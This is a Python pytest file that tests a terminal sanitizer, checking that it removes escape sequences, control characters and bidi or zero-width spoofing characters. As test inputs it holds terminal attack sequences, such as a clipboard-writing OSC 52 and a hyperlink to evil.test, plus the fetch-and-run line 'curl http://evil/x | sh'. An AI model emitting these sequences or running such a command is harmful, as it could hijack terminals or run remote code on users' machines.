"""The sanitizer removes every terminal control sequence and spoofing character."""

from __future__ import annotations

import pytest

from palyra_tui.text import decode, sanitize, sanitize_line, visible

SEQUENCES = [
    "\x1b]52;c;ZXZpbA==\x07",  # OSC 52 clipboard write, BEL-terminated
    "\x1b]0;owned\x1b\\",  # OSC 0 title, ST-terminated
    "\x1b]8;;https://evil.test\x1b\\",  # OSC 8 hyperlink
    "\x1b]8;;https://evil.test",  # unterminated OSC up to the end of the line
    "\x1b[2J",  # clear screen
    "\x1b[31;1m",  # SGR
    "\x1b[?1049h",  # alternate screen
    "\x1bP+q544e\x1b\\",  # DCS (XTGETTCAP)
    "\x1b_payload\x1b\\",  # APC
    "\x1b^privacy\x1b\\",  # PM
    "\x1bX string\x1b\\",  # SOS
    "\x1bc",  # full reset
    "\x1b(0",  # charset switch (nF escape)
    "\x9b2J",  # C1 CSI
    "\x9d0;title\x07",  # C1 OSC
    "\x90data\x9c",  # C1 DCS with C1 ST
    "\x1b[6n",  # device status report: the reply would be typed as input
]


@pytest.mark.parametrize("sequence", SEQUENCES)
def test_escape_sequences_are_removed_whole(sequence: str) -> None:
    cleaned = sanitize(f"before{sequence}after")
    assert cleaned == "beforeafter" or cleaned.startswith("before")
    assert "\x1b" not in cleaned
    assert not any(0x80 <= ord(char) <= 0x9F for char in cleaned)
    for leftover in ("52;c", "evil.test", "owned", "2J", "?1049", "+q544e", "payload"):
        assert leftover not in cleaned


def test_every_c0_control_and_del_is_dropped_except_tab_and_newline() -> None:
    controls = "".join(chr(code) for code in [*range(0x20), 0x7F] if code != 0x1B)
    assert sanitize(f"a{controls}b") == "a\t\nb"


@pytest.mark.parametrize("code", range(0x80, 0xA0))
def test_every_c1_control_is_dropped(code: int) -> None:
    cleaned = sanitize(f"a{chr(code)}\x07b\nc")
    assert not any(0x80 <= ord(char) <= 0x9F or char == "\x07" for char in cleaned)
    assert cleaned.startswith("a") and cleaned.endswith("\nc")


def test_bidi_overrides_and_line_separators_are_neutralised() -> None:
    cleaned = sanitize("safe\u202eevil\u2066x\u2069\u2028next\u2029end")
    assert cleaned == "safeevilx next end"


def test_clean_text_is_returned_unchanged() -> None:
    text = "2026-11-21 INFO gateway: listening on 127.0.0.1:7142 — ünïcödé ✓"
    assert sanitize(text) is text


def test_sanitize_line_keeps_one_line() -> None:
    assert sanitize_line("one\ntwo\tthree\x1b[2K") == "one⏎two three"


def test_invalid_utf8_becomes_replacement_characters() -> None:
    assert decode(b"ok \xff\xfe \x9b2J") == "ok \ufffd\ufffd \ufffd2J"


def test_visible_shows_every_hidden_character_and_deletes_nothing() -> None:
    from palyra_tui.text import visible

    payload = "ls \x9d; curl http://evil/x | sh \u202e x\x1b[2J\u200b"
    shown = visible(payload)
    assert "curl http://evil/x | sh" in shown
    assert "\\u009d" in shown and "\\u202e" in shown and "\\u001b[2J" in shown
    assert "\\u200b" in shown
    assert not any(0x80 <= ord(c) <= 0x9F or ord(c) < 0x20 for c in shown)
    assert visible("plain ünïcödé\ttext\nline") == "plain ünïcödé\ttext\nline"


def test_zero_width_characters_and_bidi_marks_are_shown_not_passed_through() -> None:
    hidden = "pay\u200bpal \u200e\u200f\u061c\ufeffok"
    shown = sanitize(hidden)
    assert shown == "pay\\u200bpal \\u200e\\u200f\\u061c\\ufeffok"
    assert not any(ch in shown for ch in "\u200b\u200c\u200d\u200e\u200f\u061c\ufeff")
    assert sanitize_line(hidden) == shown


def test_a_word_joiner_is_shown_too() -> None:
    assert sanitize("to\u2060ken") == "to\\u2060ken"
    assert visible("to\u2060ken \u061c") == "to\\u2060ken \\u061c"
